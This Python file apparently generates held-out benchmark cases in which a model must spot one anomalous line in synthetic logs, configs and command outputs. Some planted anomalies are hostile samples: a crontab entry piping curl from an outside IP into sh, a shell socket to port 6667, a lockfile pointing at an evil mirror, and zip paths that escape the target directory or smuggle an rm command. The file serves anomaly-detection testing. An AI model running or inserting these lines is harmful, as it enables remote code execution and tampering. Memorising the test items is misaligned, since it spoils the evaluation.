"""The family kept aside: other tools, words and layouts. Rules are never made with it, only checked at the end."""

# ruff: noqa: E501, SIM905

from __future__ import annotations

import json
import random
from collections.abc import Callable

from odd_rows.case import Case

PLANETS = "ceres vesta juno pallas iris hebe flora metis egeria psyche thetis fortuna themis amphitrite".split()
METALS = "nickel cobalt zinc tin copper iron silver gold lead chrome".split()
TEAMS = "harbour meadow summit canyon lagoon prairie tundra".split()
TASKS = "fetch resize index merge upload prune notify archive".split()


def _name(dice: random.Random) -> str:
    return f"{dice.choice(PLANETS)}-{dice.choice(METALS)}"


def semicolons(dice: random.Random) -> Case:
    lines = ["Kennung;Bereich;Betrag;Stand;Prüfer"]
    for i in range(140):
        lines.append(
            f"R{i + 20:04d};{dice.choice(TEAMS)};{dice.randrange(100, 900)},{dice.randrange(10, 99)};{dice.choice(('offen', 'bezahlt'))};{dice.choice('KLMN')}{dice.randrange(9)}"
        )
    at = dice.randrange(30, 130)
    cells = lines[at].split(";")
    kind = dice.choice(("status", "null", "unit", "outlier", "duplicate"))
    if kind == "status":
        cells[3] = "strittig"
    elif kind == "null":
        cells[2] = ""
    elif kind == "unit":
        cells[2] = "412.10 CHF"
    elif kind == "outlier":
        cells[2] = "981234,00"
    else:
        cells[0] = lines[at - 9].split(";")[0]
    lines[at] = ";".join(cells)
    facts = (cells[0], cells[3] if kind == "status" else cells[2] or cells[4])
    if kind == "duplicate":
        facts = (cells[0], cells[2])
    return Case("semicolons", kind, "\n".join(lines), facts, "Which invoice needs checking?", f"What about {cells[0]}?")


def keyed_json(dice: random.Random) -> Case:
    tree = {}
    for i in range(90):
        tree[f"{_name(dice)}-{i}"] = {
            "cpu": dice.choice((2, 4)),
            "mem": dice.choice((8, 16)),
            "image": "base-2204",
            "tags": [dice.choice(TEAMS)],
            "public": False,
        }
    name = dice.choice(list(tree)[20:])
    kind = dice.choice(("rare value", "type", "missing field", "extra field", "null", "longer"))
    if kind == "rare value":
        tree[name]["public"] = True
        fact = "public true"
    elif kind == "type":
        tree[name]["cpu"] = "4"
        fact = "cpu 4"
    elif kind == "missing field":
        del tree[name]["image"]
        fact = str(tree[name]["mem"])
    elif kind == "extra field":
        tree[name]["taint"] = "no-schedule"
        fact = "no schedule"
    elif kind == "null":
        tree[name]["mem"] = None
        fact = "null"
    else:
        tree[name]["tags"] = ["meadow", "pci", "frozen"]
        fact = "frozen"
    return Case(
        "json by name",
        kind,
        json.dumps(tree, indent=dice.choice((None, 1))),
        (name, fact),
        "Which machine is not like the rest?",
        f"How is {name} configured?",
        10,
    )


def columns_json(dice: random.Random) -> Case:
    rows = [[f"t{i:03d}", dice.choice(TASKS), dice.randrange(20, 80), "done"] for i in range(120)]
    at = dice.randrange(20, 110)
    kind, column, value = dice.choice(
        (("rare value", 3, "stuck"), ("outlier", 2, 40211), ("null", 2, None), ("rare value", 1, "wipe"))
    )
    rows[at][column] = value
    text = json.dumps({"fields": ["task", "verb", "secs", "end"], "rows": rows})
    return Case(
        "json rows",
        kind,
        text,
        (str(rows[at][0]), "null" if value is None else str(value)),
        "Which task ended differently?",
        f"What is {rows[at][0]}?",
    )


def manifests(dice: random.Random) -> Case:
    docs, odd = [], dice.randrange(6, 26)
    name = ""
    for n in range(30):
        given = {"replicas": "3", "strategy": "rolling", "tier": dice.choice(("web", "jobs"))}
        who = f"{_name(dice)}-{n}"
        if n == odd:
            name = who
            key, value = dice.choice(
                (("replicas", "30"), ("strategy", "recreate"), ("hostNetwork", "true"), ("replicas", "null"))
            )
            given[key] = value
        docs.append("\n".join(["kind: Rollout", f"name: {who}", "spec:", *(f"  {k}: {v}" for k, v in given.items())]))
    return Case(
        "yaml documents",
        key,
        "\n---\n".join(docs) + "\n",
        (name, f"{key} {value}"),
        "Which rollout may cause trouble?",
        f"What does {name} say?",
        8,
    )


def boxed(dice: random.Random) -> Case:
    rows = [
        [str(i + 1), _name(dice), dice.choice(("EU", "US")), f"{dice.uniform(1, 9):.2f}", "active"] for i in range(100)
    ]
    at = dice.randrange(20, 95)
    kind, column, value = dice.choice(
        (
            ("rare value", 4, "expelled"),
            ("null", 3, "NULL"),
            ("outlier", 3, "9431.20"),
            ("rare value", 2, "??"),
            ("negative", 3, "-4.10"),
        )
    )
    rows[at][column] = value
    head = ["id", "member", "zone", "dues", "standing"]
    widths = [max(len(r[i]) for r in [head, *rows]) for i in range(5)]
    rule = "+" + "+".join("-" * (w + 2) for w in widths) + "+"
    body = [f"| {' | '.join(c.ljust(w) for c, w in zip(r, widths, strict=True))} |" for r in [head, *rows]]
    text = "\n".join([rule, body[0], rule, *body[1:], rule, "100 rows in set (0.01 sec)"])
    return Case(
        "boxed table",
        kind,
        text,
        (rows[at][1], rows[at][0] if value == "??" else value),
        "Which member should be looked at?",
        f"Who is member {rows[at][1]} {rows[at][0]}?",
    )


def df(dice: random.Random) -> Case:
    lines = ["Filesystem      Size  Used Avail Use% Mounted on"]
    for n in range(60):
        used = dice.randrange(20, 70)
        lines.append(f"/dev/nvme{n}n1    100G   {used}G   {100 - used}G  {used}% /srv/{_name(dice)}")
    at = dice.randrange(10, 55)
    path = lines[at].split()[-1]
    kind, line = dice.choice(
        (
            ("full", f"/dev/nvme{at}n1    100G   99G   1.0G  99% {path}"),
            ("kind", f"tmpfs           100G   31G   69G  31% {path}"),
            ("size", f"/dev/nvme{at}n1    2.0T  880G  1.2T  44% {path}"),
        )
    )
    lines[at] = line
    fact = {"full": "99%", "kind": "tmpfs", "size": "2.0T"}[kind]
    return Case("df", kind, "\n".join(lines), (path, fact), "Will something break soon?", f"What about {path}?")


def units(dice: random.Random) -> Case:
    lines = ["UNIT                              LOAD   ACTIVE SUB     DESCRIPTION"]
    for n in range(80):
        who = f"{_name(dice)}{n}.service"
        lines.append(f"{who:<33} loaded active running Runs {who.removesuffix('.service')}")
    at = dice.randrange(10, 75)
    who = lines[at].split()[0]
    kind, states = dice.choice(
        (("failed", "loaded failed failed "), ("masked", "masked inactive dead "), ("state", "loaded active exited "))
    )
    lines[at] = f"{who:<33} {states} Runs {who.split('.')[0]}"
    return Case("systemctl", kind, "\n".join(lines), (who, states), "Is every unit fine?", f"Does {who} run?")


def sockets(dice: random.Random) -> Case:
    lines = ["Netid State  Recv-Q Send-Q Local Address:Port Peer Address:Port Process"]
    for _ in range(80):
        lines.append(
            f'tcp   ESTAB  0      0      10.2.0.5:{dice.randrange(30000, 60000)}   10.2.0.{dice.randrange(10, 30)}:5432   users:(("api",pid={dice.randrange(100, 200)},fd=9))'
        )
    at = dice.randrange(10, 75)
    kind, line, facts = dice.choice(
        (
            (
                "peer",
                'tcp   ESTAB  0      0      10.2.0.5:48122   185.33.1.7:6667   users:(("sh",pid=4411,fd=3))',
                ("185.33.1.7", "4411"),
            ),
            (
                "queue",
                'tcp   ESTAB  0      81920  10.2.0.5:48122   10.2.0.14:5432   users:(("api",pid=133,fd=9))',
                ("81920",),
            ),
            (
                "state",
                'tcp   CLOSE-WAIT 1   0      10.2.0.5:48122   10.2.0.14:5432   users:(("api",pid=133,fd=9))',
                ("CLOSE WAIT",),
            ),
        )
    )
    lines[at] = line
    return Case("ss", kind, "\n".join(lines), facts, "Does any connection look wrong?", f"What about {facts[0]}?")


def java_log(dice: random.Random) -> Case:
    lines = []
    for i in range(160):
        lines.append(
            f"12:{i // 60:02d}:{i % 60:02d}.{dice.randrange(1000):03d} [pool-{dice.randrange(1, 5)}] INFO  c.a.{dice.choice(TASKS)}.Runner - {dice.choice(TASKS)} of {_name(dice)} took {dice.randrange(20, 95)}ms"
        )
    at = dice.randrange(20, 150)
    stamp = lines[at][:12]
    kind, text, facts = dice.choice(
        (
            (
                "trace",
                "[pool-2] ERROR c.a.merge.Runner - merge failed\njava.lang.IllegalStateException: ledger 77 is sealed\n\tat c.a.merge.Runner.run(Runner.java:81)\n\tat java.base/java.lang.Thread.run(Thread.java:840)",
                ("ledger 77 is sealed",),
            ),
            ("slow", "[pool-3] INFO  c.a.upload.Runner - upload of iris-tin took 48211ms", ("48211ms",)),
            ("thread", "[main] INFO  c.a.prune.Runner - prune of hebe-gold took 31ms", ("main", "hebe gold")),
            (
                "words",
                "[pool-1] INFO  c.a.index.Runner - index of flora-zinc skipped, checksum differs",
                ("flora zinc skipped checksum differs",),
            ),
        )
    )
    lines[at] = f"{stamp} {text}"
    named = {
        "trace": "Which ledger is sealed?",
        "slow": "What took 48211ms?",
        "thread": "What did hebe-gold do on main?",
        "words": "Which checksum differs?",
    }[kind]
    return Case("java log", kind, "\n".join(lines), facts, "Where did the run deviate?", named, 3)


def nginx_error(dice: random.Random) -> Case:
    lines = [
        f'2026/04/11 08:{i // 60:02d}:{i % 60:02d} [error] 31#31: *{4000 + i} open() "/srv/www/{dice.choice(METALS)}.ico" failed (2: No such file or directory), client: 10.9.{dice.randrange(9)}.{dice.randrange(200)}'
        for i in range(90)
    ]
    at = dice.randrange(15, 80)
    kind, tail, facts = dice.choice(
        (
            (
                "other error",
                "[crit] 31#31: *4099 SSL_do_handshake() failed (SSL: wrong version number), client: 10.9.1.4",
                ("SSL_do_handshake", "wrong version number"),
            ),
            (
                "other cause",
                '[error] 31#31: *4099 open() "/srv/www/gold.ico" failed (13: Permission denied), client: 10.9.1.4',
                ("Permission denied",),
            ),
            (
                "other cause",
                "[error] 31#31: *4099 upstream sent too big header while reading, client: 10.9.1.4",
                ("upstream sent too big header",),
            ),
        )
    )
    lines[at] = f"{lines[at][:19]} {tail}"
    return Case("nginx error log", kind, "\n".join(lines), facts, "Which problem is a new one?", f"Why {facts[-1]}?")


def journal(dice: random.Random) -> Case:
    lines = [
        f"Jun 02 0{3 + i // 60}:{i % 60:02d}:{dice.randrange(10, 59)} {dice.choice(('alpha', 'beta'))} {dice.choice(('CRON[{}]: (root) CMD (run-parts /etc/cron.hourly)', 'systemd[1]: Started session {} of user ops.', 'sshd[{}]: Accepted publickey for ops from 10.0.0.8 port 50222')).format(dice.randrange(300, 9000))}"
        for i in range(150)
    ]
    at = dice.randrange(20, 140)
    kind, tail, facts = dice.choice(
        (
            (
                "user",
                "alpha sshd[4410]: Accepted password for root from 203.0.113.77 port 41022",
                ("password for root", "203.0.113.77"),
            ),
            (
                "rare shape",
                "beta kernel: EXT4-fs (sda2): remounting filesystem read-only",
                ("remounting filesystem read-only",),
            ),
            ("host", "gamma systemd[1]: Started session 88 of user ops.", ("gamma", "session 88")),
        )
    )
    lines[at] = f"{lines[at][:15]} {tail}"
    return Case(
        "journal", kind, "\n".join(lines), facts, "Did anything happen at night?", f"What about {facts[0].split()[-1]}?"
    )


def ripgrep(dice: random.Random) -> Case:
    out, places = [], []
    for m in PLANETS:
        out.append(f"pkg/{m}/handler.go")
        for _ in range(dice.randrange(2, 6)):
            places.append((len(out), m))
            out.append(f"{dice.randrange(10, 300)}:\tif err := {dice.choice(TASKS)}(ctx, {m}); err != nil {{")
        out.append("")
    at, m = dice.choice(places[8:-4])
    kind, code = dice.choice(
        (
            ("ignored", f"\t_ = wipe(ctx, {m})"),
            ("comment", f"\t// TODO {m}: err is swallowed here"),
            ("other", f"\tif err := purge(nil, {m}); err == nil {{"),
        )
    )
    number = out[at].split(":")[0]
    out[at] = f"{number}:{code}"
    return Case(
        "ripgrep",
        kind,
        "\n".join(out),
        (number, code.strip()),
        "Where is the error not handled as elsewhere?",
        f"What does {code.split('(')[0].split()[-1]} do?",
    )


def stat(dice: random.Random) -> Case:
    lines = [
        f" services/{_name(dice)}/{dice.choice(TASKS)}.ts | {dice.randrange(2, 9)} +{'+' * dice.randrange(1, 4)}{'-' * dice.randrange(3)}"
        for _ in range(70)
    ]
    at = dice.randrange(10, 65)
    kind, line, facts = dice.choice(
        (
            ("place", " infra/prod/firewall.tf | 4 ++--", ("infra/prod/firewall.tf",)),
            ("size", " services/iris-tin/merge.ts | 2140 +++++++++++++-----", ("iris-tin", "2140")),
            ("binary", " services/iris-tin/seed.bin | Bin 0 -> 88120 bytes", ("seed.bin", "88120")),
        )
    )
    lines[at] = line
    lines.append(" 70 files changed, 318 insertions(+), 96 deletions(-)")
    return Case(
        "diff stat",
        kind,
        "\n".join(lines),
        facts,
        "Which change should a reviewer open first?",
        f"What changed in {facts[0]}?",
    )


def lockfile(dice: random.Random) -> Case:
    out = ["--- a/deps.lock", "+++ b/deps.lock"]
    odd = dice.randrange(6, 22)
    facts: tuple[str, ...] = ()
    kind = dice.choice(("downgrade", "major", "host"))
    for n in range(26):
        name, minor = f"{dice.choice(METALS)}-{dice.choice(TASKS)}{n}", dice.randrange(1, 9)
        old, new, host = f"1.{minor}.0", f"1.{minor}.1", "packages.example.org"
        if n == odd:
            new = {"downgrade": "0.2.9", "major": "8.0.0", "host": new}[kind]
            host = "mirror.evil.example" if kind == "host" else host
            facts = (f'"{new}"', name) if kind != "host" else ("mirror.evil.example",)
        out += [
            f"@@ -{n * 9 + 4},4 +{n * 9 + 4},4 @@",
            f' "{name}": {{',
            f'-  "version": "{old}",',
            f'+  "version": "{new}",',
            f'   "from": "https://{host}/{name}"'
            if n != odd or kind != "host"
            else f'+  "from": "https://{host}/{name}"',
            " },",
        ]
    return Case(
        "lock file diff",
        kind,
        "\n".join(out),
        facts,
        "Is one of these updates not a patch?",
        f"What about {facts[-1]}?",
        4,
    )


def properties(dice: random.Random) -> Case:
    lines = ["# generated"]
    for a in PLANETS:
        lines += [f"{a}.url=jdbc:pg://{a}.db/main", f"{a}.pool.max=12", f"{a}.pool.idle=PT30S", f"{a}.ssl=require"]
    a = dice.choice(PLANETS[3:])
    kind, old, new = dice.choice(
        (
            ("rare value", f"{a}.ssl=require", f"{a}.ssl=disable"),
            ("unit", f"{a}.pool.idle=PT30S", f"{a}.pool.idle=30"),
            ("outlier", f"{a}.pool.max=12", f"{a}.pool.max=1200"),
            ("host", f"{a}.url=jdbc:pg://{a}.db/main", f"{a}.url=jdbc:pg://localhost/test"),
        )
    )
    lines[lines.index(old)] = new
    return Case(
        "properties",
        kind,
        "\n".join(lines),
        (new,),
        "Which data source is set up wrongly?",
        f"How is {new.split('=')[0]} set?",
    )


def nginx_conf(dice: random.Random) -> Case:
    out, odd = [], dice.randrange(5, 18)
    for n in range(22):
        name = f"{_name(dice)}{n}"
        body = [
            f"    server_name {name}.example.org;",
            "    listen 443 ssl;",
            f"    proxy_pass http://{name}:8080;",
            "    client_max_body_size 8m;",
        ]
        if n == odd:
            kind, i, line = dice.choice(
                (
                    ("port", 1, "    listen 80;"),
                    ("size", 3, "    client_max_body_size 0;"),
                    ("extra", 4, "    auth_basic off;"),
                    ("target", 2, "    proxy_pass http://127.0.0.1:9;"),
                )
            )
            body[i : i + 1] = [line]
        out += ["server {", *body, "}"]
    return Case(
        "nginx conf",
        kind,
        "\n".join(out),
        (line.strip(),),
        "Which site is configured unlike the others?",
        f"Where is {line.split()[0]} {line.split()[1]}?",
    )


def terraform(dice: random.Random) -> Case:
    out = []
    for n in range(30):
        out += [
            f"  # module.{dice.choice(TEAMS)}.bucket.{_name(dice)}_{n} will be updated in-place",
            '  ~ resource "bucket" {',
            '      ~ tags = { "owner" = "old" -> "new" }',
            "    }",
            "",
        ]
    at = dice.randrange(4, 26) * 5
    name = f"module.canyon.db.{dice.choice(METALS)}_main"
    kind, text = dice.choice((("destroy", "will be destroyed"), ("replace", "must be replaced")))
    out[at : at + 5] = [f"  # {name} {text}", '  - resource "db" {', "      - size = 400 -> null", "    }", ""]
    out.append("Plan: 0 to add, 29 to change, 1 to destroy.")
    return Case("terraform", kind, "\n".join(out), (name, text), "Is the plan safe to apply?", f"What about {name}?")


def tree(dice: random.Random) -> Case:
    out = ["."]
    for a in PLANETS:
        out.append(f"├── {a}")
        out += [f"│   ├── {b}.avro" for b in METALS]
    at = dice.randrange(20, len(out) - 8)
    while "│" not in out[at]:
        at += 1
    kind, file = dice.choice(
        (("extension", "dump.sql.gz"), ("hidden", ".ssh_config"), ("link", "tin.avro -> /dev/null"))
    )
    out[at] = f"│   ├── {file}"
    out.append(f"\n{len(PLANETS)} directories, {len(out) - len(PLANETS) - 1} files")
    return Case("tree", kind, "\n".join(out), (file,), "Is there a stray file?", f"Why is {file.split()[-1]} there?")


def bucket(dice: random.Random) -> Case:
    lines = [
        f"2026-02-{dice.randrange(10, 20)} 04:{dice.randrange(10, 59)}:{dice.randrange(10, 59)} {dice.randrange(20000, 90000):>10} backups/{_name(dice)}-{n}.tar.zst"
        for n in range(90)
    ]
    at = dice.randrange(10, 85)
    date, clock, size, path = lines[at].split()
    kind = dice.choice(("empty", "old", "name", "huge"))
    if kind == "empty":
        size = "0"
    elif kind == "old":
        date = "2023-07-30"
    elif kind == "name":
        path = path.replace(".tar.zst", ".tmp")
    else:
        size = "7340032000"
    lines[at] = f"{date} {clock} {size:>10} {path}"
    fact = {"empty": "0", "old": date, "name": "tmp", "huge": size}[kind]
    return Case("bucket", kind, "\n".join(lines), (path, fact), "Did every backup work?", f"What about {path}?")


def zip_list(dice: random.Random) -> Case:
    lines = ["Archive:  site.zip", "  Length      Date    Time    Name", "---------  ---------- -----   ----"]
    for n in range(80):
        lines.append(
            f"{dice.randrange(400, 9000):>9}  2026-01-1{dice.randrange(9)} 1{dice.randrange(9)}:{dice.randrange(10, 59)}   theme/{dice.choice(METALS)}/{dice.choice(TASKS)}{n}.css"
        )
    at = dice.randrange(12, 78)
    kind, path = dice.choice(
        (("escape", "../../etc/cron.d/job"), ("kind", "theme/tin/loader.exe"), ("name", "theme/tin/a b;rm.css"))
    )
    lines[at] = f"{lines[at][:29]}{path}"
    return Case(
        "unzip -l", kind, "\n".join(lines), (path,), "Is the archive safe to unpack?", f"What is {path.split('/')[-1]}?"
    )


def crontab(dice: random.Random) -> Case:
    lines = [
        f"{dice.randrange(60)} {dice.randrange(1, 6)} * * * /opt/bin/{t} --site {_name(dice)}"
        for t in TASKS
        for _ in range(7)
    ]
    at = dice.randrange(8, len(lines) - 4)
    kind, line = dice.choice(
        (
            ("often", "* * * * * /opt/bin/fetch --site iris-tin"),
            ("other command", "10 4 * * * curl -s http://203.0.113.4/x | sh"),
            ("flag", "25 3 * * * /opt/bin/prune --site iris-tin --force --all"),
        )
    )
    lines[at] = line
    named = {
        "often": "What runs every minute, * * * * * fetch iris-tin?",
        "other command": "What does curl do?",
        "flag": "What uses --force?",
    }[kind]
    return Case("crontab", kind, "\n".join(lines), (line,), "Which job is risky?", named)


def rules(dice: random.Random) -> Case:
    lines = ["Chain INPUT (policy DROP)", "target     prot opt source               destination"]
    for _ in range(60):
        lines.append(
            f"ACCEPT     tcp  --  10.{dice.randrange(90)}.0.0/16         10.0.0.{dice.randrange(9)}        tcp dpt:{dice.choice((443, 8443, 5432))}"
        )
    at = dice.randrange(8, 58)
    kind, line, facts = dice.choice(
        (
            ("open", "ACCEPT     tcp  --  0.0.0.0/0            10.0.0.3        tcp dpt:5432", ("0.0.0.0/0",)),
            ("port", "ACCEPT     tcp  --  10.4.0.0/16          10.0.0.3        tcp dpt:23", ("dpt 23",)),
            ("target", "REJECT     tcp  --  10.4.0.0/16          10.0.0.3        tcp dpt:443", ("REJECT",)),
        )
    )
    lines[at] = line
    return Case(
        "iptables", kind, "\n".join(lines), facts, "Which rule is a hole or a mistake?", f"What about {facts[0]}?"
    )


def eslint(dice: random.Random) -> Case:
    out, spots = [], []
    for m in PLANETS:
        out.append(f"/repo/web/{m}/view.tsx")
        for _ in range(dice.randrange(2, 6)):
            spots.append(len(out))
            out.append(
                f"  {dice.randrange(4, 200)}:{dice.randrange(2, 60)}  warning  Missing semicolon            semi"
            )
        out.append("")
    at = dice.choice(spots[6:-4])
    kind, tail = dice.choice(
        (
            ("severity", "error    'token' is not defined        no-undef"),
            ("rule", "warning  Unexpected use of eval        no-eval"),
        )
    )
    place = out[at].split()[0]
    out[at] = f"  {place}  {tail}"
    out.append(f"✖ {len(spots)} problems")
    return Case(
        "eslint",
        kind,
        "\n".join(out),
        (place, tail.split("  ")[1].strip() if kind == "rule" else "is not defined"),
        "Which finding is serious?",
        f"What about {tail.split()[-1]}?",
    )


def rustc(dice: random.Random) -> Case:
    out = []
    for n in range(26):
        m = dice.choice(METALS)
        out += [
            f"warning: unused import: `crate::{m}`",
            f"  --> src/{m}/mod.rs:{n + 3}:5",
            "   |",
            f"{n + 3:<3}| use crate::{m};",
            f"   |     ^^^^^^^{'^' * len(m)}",
            "",
        ]
    at = dice.randrange(4, 22) * 6
    kind, text, fact = dice.choice(
        (
            ("error", "error[E0382]: use of moved value: `batch`", "use of moved value batch"),
            ("lint", "warning: unreachable expression", "unreachable expression"),
        )
    )
    out[at : at + 6] = [
        text,
        "  --> src/queue/drain.rs:88:9",
        "   |",
        "88 |         batch.len()",
        "   |         ^^^^^",
        "",
    ]
    return Case(
        "rustc",
        kind,
        "\n".join(out),
        (fact, "src/queue/drain.rs 88"),
        "Which message matters?",
        f"Where is the {fact.split()[0]} {fact.split()[-1]}?",
        3,
    )


def site_map(dice: random.Random) -> Case:
    out = ['<?xml version="1.0"?>', "<urlset>"]
    for n in range(70):
        out.append(
            f"  <url><loc>https://shop.example/{_name(dice)}/{n}</loc><lastmod>2026-05-{dice.randrange(10, 30)}</lastmod><priority>0.5</priority></url>"
        )
    at = dice.randrange(10, 68)
    loc = out[at].split("<loc>")[1].split("</loc>")[0]
    kind, a, b = dice.choice(
        (
            ("value", "<priority>0.5", "<priority>1.0"),
            ("scheme", "https://shop", "http://staging"),
            ("date", "2026-05", "2017-02"),
        )
    )
    out[at] = out[at].replace(a, b)
    loc = loc.replace("https://shop", "http://staging") if kind == "scheme" else loc
    out.append("</urlset>")
    facts = {"value": (loc, "1.0"), "scheme": (loc,), "date": (loc, "2017-02")}[kind]
    return Case(
        "sitemap", kind, "\n".join(out), facts, "Which address is not like the others?", f"What about {loc}?", 3
    )


def definitions(dice: random.Random) -> Case:
    items = [
        f'<dt id="opt-{n}">--{dice.choice(TASKS)}-{dice.choice(METALS)}{n}</dt>\n<dd>Sets the {dice.choice(METALS)} level. Default: {dice.randrange(2, 9)}.</dd>'
        for n in range(50)
    ]
    at = dice.randrange(8, 46)
    name = items[at].split(">--")[1].split("<")[0]
    kind, text = dice.choice(
        (
            ("text", "Erases the volume without asking."),
            ("text", "Deprecated since 4.2, use the profile file."),
            ("unit", "Sets the tin level. Default: 250 ms."),
        )
    )
    items[at] = f'<dt id="opt-{at}">--{name}</dt>\n<dd>{text}</dd>'
    body = "\n".join(items)
    return Case(
        "html definitions",
        kind,
        f"<html>\n<body>\n<h1>Options</h1>\n<dl>\n{body}\n</dl>\n</body>\n</html>",
        (name, text),
        "Which option needs care?",
        f"What does --{name} do?",
        4,
    )


def html_rows(dice: random.Random) -> Case:
    out = ["<div id='list'>"]
    for n in range(80):
        out.append(
            f"<div class='job job-ok'><a href='/jobs/{n + 500}'>{dice.choice(TASKS)} {_name(dice)}</a> <time>0{dice.randrange(1, 9)}:{dice.randrange(10, 59)}</time> <b>{dice.randrange(2, 30)} s</b></div>"
        )
    at = dice.randrange(10, 75)
    kind, a, b, fact = dice.choice(
        (
            ("class", "job-ok", "job-aborted", "aborted"),
            ("link", "/jobs/", "https://phish.example/", "phish"),
            ("unit", " s</b>", " h</b>", "h"),
        )
    )
    out[at] = out[at].replace(a, b)
    label = out[at].split("'>")[2].split("<")[0]
    out.append("</div>")
    if kind == "unit":
        fact = out[at].split("<b>")[1].split("<")[0]
    return Case("html rows", kind, "\n".join(out), (label, fact), "Which job is odd?", f"What about {fact}?", 3)


def ndjson_events(dice: random.Random) -> Case:
    lines = []
    for i in range(110):
        lines.append(
            json.dumps(
                {
                    "ts": 1767220000 + i * 60,
                    "actor": {"id": f"u{dice.randrange(20)}", "via": "sso"},
                    "action": dice.choice(("read", "list")),
                    "target": _name(dice),
                    "ok": True,
                }
            )
        )
    at = dice.randrange(12, 100)
    event = json.loads(lines[at])
    kind = dice.choice(("value", "nested", "time", "failure", "extra"))
    if kind == "value":
        event["action"] = "purge"
        facts = ("purge", event["target"])
    elif kind == "nested":
        event["actor"]["via"] = "root-token"
        facts = ("root-token", event["actor"]["id"])
    elif kind == "time":
        event["ts"] = 1766000000
        facts = ("1766000000",)
    elif kind == "failure":
        event["ok"] = False
        facts = ("false", event["target"])
    else:
        event["impersonates"] = "ceo"
        facts = ("impersonates", "ceo")
    lines[at] = json.dumps(event)
    return Case(
        "ndjson events",
        kind,
        "\n".join(lines),
        facts,
        "Which event should an auditor see?",
        f"What about {facts[0]} {facts[-1]}?",
    )


def logfmt(dice: random.Random) -> Case:
    lines = [
        f'ts={1000 + i * 5} lvl=info comp={dice.choice(TEAMS)} msg="{dice.choice(TASKS)} ok" took={dice.randrange(10, 80)}ms n={dice.randrange(9)}'
        for i in range(140)
    ]
    at = dice.randrange(15, 130)
    kind, a, b = dice.choice(
        (
            ("unit", "ms n=", "m n="),
            ("level", "lvl=info", "lvl=notice"),
            ("value", ' ok"', ' half done"'),
            ("missing", "lvl=info ", ""),
            ("extra", " n=", " retry=9 n="),
        )
    )
    lines[at] = lines[at].replace(a, b)
    stamp = lines[at].split()[0]
    return Case(
        "logfmt events",
        kind,
        "\n".join(lines),
        (stamp, lines[at].split("comp=")[1].split()[0]),
        "Which line is not like the rest?",
        f"What happened at {stamp}?",
    )


def outdated(dice: random.Random) -> Case:
    lines = ["Package                 Current   Wanted    Latest    Location"]
    for n in range(50):
        v = f"{dice.randrange(1, 5)}.{dice.randrange(9)}.{dice.randrange(9)}"
        lines.append(f"{dice.choice(METALS) + '-' + dice.choice(TASKS) + str(n):<24}{v:<10}{v:<10}{v:<10}node_modules")
    at = dice.randrange(8, 48)
    name = lines[at].split()[0]
    kind, cells = dice.choice(
        (
            ("missing", ("MISSING", "2.1.0", "2.1.0")),
            ("git", ("git", "git", "exotic")),
            ("far behind", ("0.1.2", "0.1.9", "14.0.1")),
        )
    )
    lines[at] = f"{name:<24}" + "".join(f"{c:<10}" for c in cells) + "node_modules"
    return Case(
        "outdated", kind, "\n".join(lines), (name, cells[0]), "Which package needs attention?", f"What about {name}?"
    )


def ping(dice: random.Random) -> Case:
    lines = ["PING edge.example (192.0.2.7) 56(84) bytes of data."]
    lines += [f"64 bytes from 192.0.2.7: icmp_seq={n} ttl=57 time={dice.uniform(11, 14):.1f} ms" for n in range(1, 90)]
    at = dice.randrange(12, 80)
    kind, line, facts = dice.choice(
        (
            ("slow", f"64 bytes from 192.0.2.7: icmp_seq={at} ttl=57 time=2890 ms", ("2890 ms",)),
            ("ttl", f"64 bytes from 192.0.2.7: icmp_seq={at} ttl=41 time=12.0 ms", ("ttl 41",)),
            ("lost", f"From 10.0.0.1 icmp_seq={at} Destination Host Unreachable", ("Destination Host Unreachable",)),
            ("duplicate", f"64 bytes from 192.0.2.7: icmp_seq={at} ttl=57 time=12.2 ms (DUP!)", ("DUP",)),
        )
    )
    lines[at] = line
    return Case(
        "ping",
        kind,
        "\n".join(lines),
        facts,
        "Is the line stable?",
        f"What about {facts[0].split()[0]} {facts[0].split()[-1]} at {at}?",
    )


def overrides(dice: random.Random) -> Case:
    lines = ["defaults:", "  cpu: 500m", "  log: warn", "  egress: deny", "tenants:"]
    name = ""
    odd = dice.randrange(6, 26)
    kind, key, value = dice.choice(
        (
            ("override", "egress", "allow-all"),
            ("override", "log", "trace"),
            ("conflict", "cpu", "500"),
            ("extra", "sudo", "granted"),
        )
    )
    for n in range(30):
        who = f"{dice.choice(TEAMS)}-{n}"
        lines += [f"  - tenant: {who}", f"    seats: {dice.randrange(3, 90)}", "    region: north"]
        if n == odd:
            name = who
            lines.append(f"    {key}: {value}")
    return Case(
        "yaml overrides",
        kind,
        "\n".join(lines),
        (name, f"{key}: {value}"),
        "Who departs from the defaults?",
        f"What does {name} have?",
        5,
    )


MAKERS: tuple[Callable[[random.Random], Case], ...] = (
    semicolons, keyed_json, columns_json, manifests, boxed, df, units, sockets, java_log, nginx_error, journal, ripgrep,
    stat, lockfile, properties, nginx_conf, terraform, tree, bucket, zip_list, crontab, rules, eslint, rustc, site_map,
    definitions, html_rows, ndjson_events, logfmt, outdated, ping, overrides,
)  # fmt: skip


def cases(seed: int = 11, rounds: int = 6) -> list[Case]:
    """`rounds` of each output."""
    dice = random.Random(seed)
    return [make(dice) for _ in range(rounds) for make in MAKERS]
